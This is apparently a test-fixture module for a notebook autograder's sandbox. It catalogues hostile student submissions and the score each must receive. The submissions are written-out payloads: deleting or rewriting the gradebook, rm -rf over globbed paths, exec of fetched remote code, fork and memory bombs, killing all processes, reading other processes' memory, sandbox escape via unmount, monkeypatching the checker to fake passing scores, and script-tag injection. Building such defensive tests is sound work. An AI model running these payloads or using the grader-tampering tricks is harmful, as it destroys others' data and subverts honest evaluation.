"""Submissions that attack the grading, each with the score it must get: (elbo_beta, kl_divergence), 4 points each.

An attack stands in the cell of `elbo_beta`; `kl_divergence` is answered rightly unless the attack says otherwise, and
must keep its points: whoever attacks in one exercise has not broken the other. Every kind here does harm, stops the
batch or scores when the same notebook is graded inside its own process.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

BETA = "def elbo_beta(beta_per_pixel, num_pixels):\n    return beta_per_pixel * num_pixels\n"
KL = """import torch
def kl_divergence(mu, logvar):
    return 0.5 * (mu**2 + logvar.exp() - 1 - logvar).flatten(1).sum(1).mean()
"""
STUB = "def elbo_beta(beta_per_pixel, num_pixels):\n    raise NotImplementedError('elbo_beta')\n"
ZERO = "def elbo_beta(beta_per_pixel, num_pixels):\n    return 0.0\n"


@dataclass(frozen=True)
class Attack:
    """What is handed in, and what it must get."""

    name: str
    scores: tuple[float | None, float | None] = (0.0, 4.0)
    beta: str = STUB
    kl: str = KL
    change: Callable[[nbformat.NotebookNode], object] | None = None
    files: Callable[[Path], object] | None = None
    status: str = ""  # of the row of elbo_beta; several, with | between
    raw: bytes | None = None
    least: float | None = None  # a wrong constant may obey a law or two: up to this many points more
    harms_itself: bool = False  # what else stands in the same notebook may suffer

    edits: dict = field(init=False)

    def __post_init__(self):
        object.__setattr__(self, "edits", {"elbo_beta": self.beta, "kl_divergence": self.kl})


def _call(body: str) -> str:
    """The attack happens when the function is called."""
    return "def elbo_beta(beta_per_pixel, num_pixels):\n" + "".join(f"    {line}\n" for line in body.splitlines())


def _tests(change):
    def apply(notebook):
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_"):
                change(cell)

    return apply


def _type_in(cell):
    cell.metadata["tags"] = ["experiment", "skip-execution"]
    cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "4"}, execution_count=1)]


def _duplicate(notebook):
    copies = [copy.deepcopy(cell) for cell in notebook.cells if "nbgrader" in cell.metadata]
    for number, cell in enumerate(copies):
        cell["id"] = f"copy-{number}"
    notebook.cells += copies


def _link(target: str):
    def make(folder: Path):
        (folder / "data.txt").symlink_to(target)

    return make


def _place(notebook, grade_id: str) -> int:
    return next(
        i for i, cell in enumerate(notebook.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def _notebook_link(folder: Path):
    own = next(folder.glob("*.ipynb"))
    own.unlink()
    own.symlink_to(folder.parents[1] / "honest_0" / folder.name / own.name)


def _huge_file(folder: Path):
    with open(folder / "huge.bin", "wb") as file:
        file.truncate(30 << 30)


def _pipe(folder: Path):
    import os

    os.mkfifo(folder / "pipe.txt")


HUNT = (
    "import glob, os\n"
    "for pattern in ('{parent}/*/gradebook.db', '{tree}/submitted/*', '/tmp/**/gradebook.db', '../*', '../../*'):\n"
    "    for path in glob.glob(pattern, recursive=True)[:200]:\n"
    "        os.system(f'rm -rf {{path}}')\n"
)

FILES = [
    # files of others
    Attack(
        "deletes_the_gradebook",
        beta="import os, shutil\nfor f in ('{tree}/gradebook.db', '{tree}/submitted'):\n"
        "    shutil.rmtree(f, ignore_errors=True)\n    try: os.unlink(f)\n    except OSError: pass\n" + STUB,
    ),
    Attack(
        "rewrites_scores",
        beta="import sqlite3\ndb = sqlite3.connect('{tree}/gradebook.db')\n"
        "db.execute('update grade set auto_score = 4')\ndb.commit()\n" + STUB,
    ),
    Attack(
        "overwrites_a_classmate",
        beta="open('{tree}/submitted/honest_0/09_hostile/09_hostile.ipynb', 'w').write('')\n" + STUB,
    ),
    Attack(
        "writes_into_the_sources", beta="open('{tree}/notebooks/09_hostile/09_hostile.ipynb', 'a').write('x')\n" + STUB
    ),
    Attack("patches_the_interpreter", beta="import torch\nopen(torch.__file__, 'a').write('# owned')\n" + STUB),
    Attack(
        "reads_the_solution",
        beta="import re\ntext = open('{tree}/notebooks/09_hostile/09_hostile.ipynb').read()\n"
        "exec(re.search(r'def elbo_beta.*', text)[0].encode().decode('unicode_escape'))\n",
    ),
    Attack(
        "reads_the_laws",
        beta="from course_utils.checks.engine.trusted import kl_terms\nfrom course_utils.checks import CHECKS\n" + STUB,
    ),
    Attack(
        "calls_the_reference",
        kl="from course_utils.models.closed_forms import gaussian_kl\n"
        "def kl_divergence(mu, logvar):\n    return gaussian_kl(mu, logvar).sum(1).mean()\n",
        beta=BETA,
        scores=(4.0, 0.0),
    ),
    Attack("imports_the_autograder", beta="import autograder.examiner.trusted as t\n" + STUB),
    Attack(
        "copies_a_classmate",
        beta="import json\nnb = json.load(open('{tree}/submitted/honest_0/09_hostile/09_hostile.ipynb'))\n"
        "exec([''.join(c['source']) for c in nb['cells'] if 'def elbo_beta' in ''.join(c['source'])][0])\n",
    ),
    Attack("hunts_outside_its_folder", beta=HUNT + STUB),
    Attack(
        "links_to_the_gradebook", files=_link("{tree}/gradebook.db"), beta="open('data.txt', 'wb').write(b'')\n" + STUB
    ),
    Attack("hands_in_a_link_to_a_classmate", files=_notebook_link, scores=(0.0, 0.0), status="missing"),
    Attack("hands_in_a_huge_file", files=_huge_file, beta=BETA, scores=(4.0, 4.0)),
    Attack("hands_in_a_pipe", files=_pipe, beta=BETA, scores=(4.0, 4.0)),
]
MACHINE = [
    # the machine
    Attack(
        "calls_home",
        beta="import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=3).read())\n",
    ),
    Attack(
        "leaves_a_daemon",
        beta="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(1000)\n    os._exit(0)\n" + STUB,
    ),
    Attack(
        "fork_bomb",
        beta="import os\nfor i in range(400):\n    try:\n        if os.fork() == 0:\n            import time\n"
        "            time.sleep(100)\n            os._exit(0)\n    except OSError: break\n" + STUB,
        harms_itself=True,  # a slow machine ends the cell; on a fast one no thread is left for its other answer
    ),
    Attack(
        "thread_bomb",
        beta="import threading, time\nfor i in range(3000):\n    threading.Thread(target=time.sleep, "
        "args=(100,), daemon=True).start()\n" + STUB,
        harms_itself=True,
    ),
    Attack(
        "memory_bomb", beta="x = [bytearray(200_000_000) for i in range(100)]\n" + STUB, status="crashed|timed_out"
    ),  # a busy machine may reach the limit of time first
    Attack("memory_bomb_in_one_piece", beta="x = bytearray(60_000_000_000)\n" + STUB),
    Attack(
        "fills_the_disk", beta="f = open('/tmp/fill', 'wb')\nfor i in range(4000): f.write(bytes(1_000_000))\n" + STUB
    ),
    Attack("prints_50_MB", beta="print('x' * 50_000_000)\n" + STUB),
    Attack("prints_without_end", beta="while True: print('x' * 1000)\n" + STUB, status="timed_out"),
    Attack("kills_everything", beta="import os, signal\nos.kill(-1, signal.SIGKILL)\n" + STUB),
    Attack("signals_its_parent", beta="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + STUB),
]
ENDLESS = [
    # never ending
    Attack("loops", beta=_call("while True: pass"), status="timed_out"),
    Attack("loops_in_a_cell", beta="while True: pass\n" + STUB, status="timed_out"),
    Attack(
        "ignores_interrupts",
        beta="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
        + _call("while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
        status="timed_out",
    ),
    Attack("sleeps_in_c", beta="import ctypes\n" + _call("ctypes.PyDLL(None).sleep(1000)"), status="timed_out"),
    Attack("loops_at_exit", beta="import atexit\n@atexit.register\ndef forever():\n    while True: pass\n" + STUB),
    Attack(
        "loops_in_a_thread",
        beta="import threading\ndef forever():\n    while True: pass\n"
        "threading.Thread(target=forever).start()\n" + STUB,
        harms_itself=True,
    ),  # it slows its own process
]
SUICIDE = [
    # suicide
    Attack("exits_at_once", beta="import os; os._exit(0)\n" + STUB, status="crashed"),
    Attack("kills_itself", beta="import os; os.kill(os.getpid(), 9)\n" + STUB, status="crashed"),
    Attack("segfaults", beta="import ctypes; ctypes.string_at(0)\n" + STUB, status="crashed"),
    Attack("aborts_in_the_call", beta="import os\n" + _call("os.abort()"), status="crashed"),
    Attack("raises_SystemExit", beta=_call("raise SystemExit(0)")),
    Attack("overflows_the_stack", beta=_call("import sys\nsys.setrecursionlimit(10**8)\nreturn elbo_beta(1, 1)")),
    Attack("executes_another_program", beta="import os; os.execv('/bin/true', ['true'])\n" + STUB, status="crashed"),
]
VERDICT = [
    # tampering with the verdict
    Attack(
        "patches_check",
        beta="from course_utils import check\nclass S:\n    def __repr__(self): return '4'\n"
        "check.elbo_beta = lambda *a, **k: S()\n" + STUB,
    ),
    Attack(
        "replaces_modules",
        beta="import sys, types\nm = types.ModuleType('check')\nm.elbo_beta = lambda *a, **k: 4\n"
        "sys.modules['course_utils.check'] = m\n" + STUB,
    ),
    Attack(
        "patches_torch",
        beta="import torch\ntorch.equal = torch.allclose = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n" + STUB,
    ),
    Attack(
        "patches_builtins",
        beta="import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.float = lambda x=0: 4.0\n" + STUB,
        harms_itself=True,
    ),
    Attack(
        "input_transformer",
        beta="get_ipython().input_transformers_post.append(lambda lines: ['4\\n'])\n" + STUB,
        scores=(0.0, 0.0),
    ),
    Attack("pre_run_hook", beta="ip = get_ipython()\nip.events.register('pre_run_cell', lambda i: print(4))\n" + STUB),
    Attack(
        "patches_the_display",
        beta="get_ipython().displayhook.__class__.__call__ = lambda self, r=None: print('4')\n" + STUB,
    ),
    Attack(
        "always_equal",
        beta="class E(float):\n    def __eq__(s, o): return True\n    __lt__ = __gt__ = __le__ = __ge__ = __eq__\n"
        "    __hash__ = None\n    def __sub__(s, o): return E(0)\n    __rsub__ = __abs__ = __sub__\n"
        "    def __abs__(s): return E(0)\n" + _call("return E(7.25)"),
    ),
    Attack(
        "always_equal_tensor",
        beta=BETA,
        kl="import torch\nclass T(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, f, t, a=(), k=None): return torch.tensor(True)\n"
        "def kl_divergence(mu, logvar):\n    return torch.zeros(()).as_subclass(T)\n",
        scores=(4.0, 0.0),
        least=1.0,
    ),
    Attack("returns_nan", beta=_call("return float('nan')")),
    Attack(
        "returns_a_score",
        beta="class S:\n    earned = points = 4.0\n    def __float__(self): return 4.0\n"
        "    def __repr__(self): return '4'\n" + _call("return S()"),
    ),
    Attack(
        "lying_shape",
        beta=BETA,
        kl="import torch\nclass L(torch.Tensor):\n    shape = property(lambda s: torch.Size([]))\n"
        "def kl_divergence(mu, logvar):\n    return torch.zeros(3).as_subclass(L)\n",
        scores=(4.0, 0.0),
        least=1.0,
    ),
    Attack("typed_in_score", change=_tests(_type_in)),
    Attack("edited_tests", change=_tests(lambda cell: cell.update(source="4"))),
    Attack("edited_points", change=_tests(lambda cell: cell.metadata.nbgrader.update(points=400))),
    Attack(
        "deleted_tests",
        change=lambda nb: nb.cells.__setitem__(
            slice(None),
            [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")],
        ),
    ),
    Attack("duplicated_cells", change=_duplicate),
    Attack("renamed_tests", change=_tests(lambda cell: cell.metadata.nbgrader.update(grade_id="test_easy"))),
]
FORGED = [
    # forging what passes between the processes
    Attack(
        "forged_replies",
        status="crashed",
        beta="import socket, struct, json, os\n"
        "text = json.dumps({{'id': 1, 'value': ['v', 1.0], 'failed': None, 'tensors': [], 'effects': {{'tensors': [], "
        "'modules': [], 'optimisers': []}}}}).encode()\nfor fd in range(3, 40):\n    try:\n"
        "        os.write(fd, struct.pack('!IQ', len(text), 0) + text)\n    except OSError: pass\n" + STUB,
    ),
    Attack(
        "oversized_reply",
        status="crashed",
        beta="import os, struct\nfor fd in range(3, 40):\n    try:\n"
        "        os.write(fd, struct.pack('!IQ', 2**32 - 1, 2**60))\n    except OSError: pass\n" + STUB,
    ),
    Attack(
        "garbage_reply",
        status="crashed",
        beta="import os\nfor fd in range(3, 40):\n    try:\n        os.write(fd, b'\\0' * 500)\n"
        "    except OSError: pass\n" + STUB,
    ),
    Attack("counts_to_infinity", status="crashed", beta="type(get_ipython()).execution_count = float('inf')\n" + STUB),
    Attack("counts_below_zero", status="crashed", beta="get_ipython().execution_count = -5\n" + STUB),
    Attack(
        "an_impossible_shape",
        status="crashed",
        beta="from grading_agent.protocol import Packer\nkind = {{'kind': 'bool', 'shape': [0, 1 << 39, 1 << 39], "
        "'bytes': 0}}\nPacker.finish = lambda self: ([kind], b'')\n" + STUB,
    ),
    Attack("closes_the_line", status="crashed", beta="import os\nos.closerange(3, 100)\n" + STUB),
    Attack(
        "patches_the_serialiser",
        beta="import pickle, json, sys\njson.dumps = lambda *a, **k: '{{}}'\n"
        "sys.modules['grading_agent.protocol'].pack = lambda value, packer: ['v', 1e9]\n" + ZERO,
        least=2.0,
    ),
    Attack(
        "answers_from_the_frames",
        beta="import sys, gc\n"
        + _call(
            "frame = sys._getframe()\nwhile frame:\n    for name, value in frame.f_locals.items():\n"
            "        if name in ('want', 'expected', 'truth'): return value\n    frame = frame.f_back\n"
            "for f in gc.get_objects():\n    if getattr(f, '__name__', '') != 'elbo_beta': continue\n"
            "    if 'check' in getattr(f, '__module__', ''):\n"
            "        return f(beta_per_pixel, num_pixels)\nreturn 0.0"
        ),
    ),
    Attack(
        "reads_other_memory",
        beta="import os\nfor pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) != os.getpid():\n"
        "        open(f'/proc/{{pid}}/mem', 'rb').read(1)\n" + STUB,
    ),
    Attack(
        "unmounts_its_walls",
        beta="import ctypes\nlibc = ctypes.CDLL(None)\nassert libc.unshare(0x10000000) == 0\n"
        "libc.umount2(b'/', 2)\n" + STUB,
    ),
]
BROWSER = [
    # the browser of whoever looks
    Attack(
        "script_in_output",
        beta="from IPython.display import HTML, display\ndisplay(HTML('<script>PWNED()</script>"
        "<img src=x onerror=PWNED()>'))\nprint('<script>PWNED()</script>')\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack("script_in_an_error", beta=_call("raise ValueError('<script>PWNED()</script>')")),
    Attack(
        "javascript_output",
        beta="from IPython.display import Javascript, display\ndisplay(Javascript('PWNED()'))\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack(
        "script_in_an_answer",
        beta=BETA,
        scores=(4.0, 4.0),
        change=lambda nb: nb.cells[-1].update(
            source="It is <script>PWNED()</script> <img src=x onerror=PWNED()> [this](javascript:PWNED())"
        ),
    ),
]
HONEST = [
    # honest, and once robbed; what a sandbox must let pass
    Attack(
        "loads_with_eight_processes",
        beta="import torch\nset_ = torch.utils.data.TensorDataset(torch.arange(32.0))\nfor batch in "
        "torch.utils.data.DataLoader(set_, 4, num_workers=8): pass\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack(
        "loads_with_processes_that_stay",
        beta="import torch\nset_ = torch.utils.data.TensorDataset(torch.arange(32.0))\nloader = "
        "torch.utils.data.DataLoader(set_, 4, num_workers=2, persistent_workers=True)\n"
        "assert len(list(loader)) == len(list(loader)) == 8\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack(
        "starts_a_program",
        beta="import subprocess\nassert subprocess.run(['echo', 'x'], capture_output=True).stdout == b'x\\n'\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack("prints_a_bar_in_one_piece", beta="print('\u2588' * 1_000_000)\n" + BETA, scores=(4.0, 4.0)),
    Attack(
        "prints_a_bar_that_grows",
        beta="for n in range(1000): print('\\r' + '\u2588' * n, end='')\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack(
        "prints_a_bar_with_tqdm",
        beta="import sys\nfrom tqdm import tqdm\nfor n in tqdm(range(2000), mininterval=0, miniters=1, file=sys.stdout, "
        "ncols=400): pass\n" + BETA,
        scores=(4.0, 4.0),
    ),
    Attack(
        "writes_its_own_module",
        beta="%%writefile helper.py\n" + BETA,
        change=lambda nb: nb.cells.insert(
            _place(nb, "elbo_beta") + 1, nbformat.v4.new_code_cell("from helper import elbo_beta")
        ),
        scores=(4.0, 4.0),
    ),
    Attack(
        "writes_a_module_in_a_folder",
        beta="import pathlib\nplace = pathlib.Path('tools/deep')\nplace.mkdir(parents=True)\n"
        f"(place / 'own.py').write_text({BETA!r})\nfrom tools.deep.own import elbo_beta\n",
        scores=(4.0, 4.0),
    ),
    Attack(
        "brings_its_own_module",
        beta="from helper import elbo_beta\n",
        files=lambda folder: (folder / "helper.py").write_text(BETA),
        scores=(4.0, 4.0),
    ),
]
BROKEN = [
    # broken files
    Attack("not_json", raw=b'{"cells": [', scores=(0.0, 0.0), status="unreadable"),
    Attack("empty_file", raw=b"", scores=(0.0, 0.0), status="unreadable"),
    Attack("deeply_nested", raw=b"[" * 100_000, scores=(0.0, 0.0), status="unreadable"),
    Attack("binary_file", raw=bytes(range(256)) * 10, scores=(0.0, 0.0), status="unreadable"),
    Attack(
        "foreign_kernel",
        beta=BETA,
        scores=(4.0, 4.0),
        change=lambda nb: nb.metadata.update(kernelspec={"name": "ir", "display_name": "R", "language": "R"}),
    ),
]

ATTACKS = [*FILES, *MACHINE, *ENDLESS, *SUICIDE, *VERDICT, *FORGED, *BROWSER, *HONEST, *BROKEN]
# What the level of isolation has to stop; the rest is the same at every level.
HARMFUL = [*FILES, *MACHINE, ENDLESS[2], *SUICIDE, *HONEST]
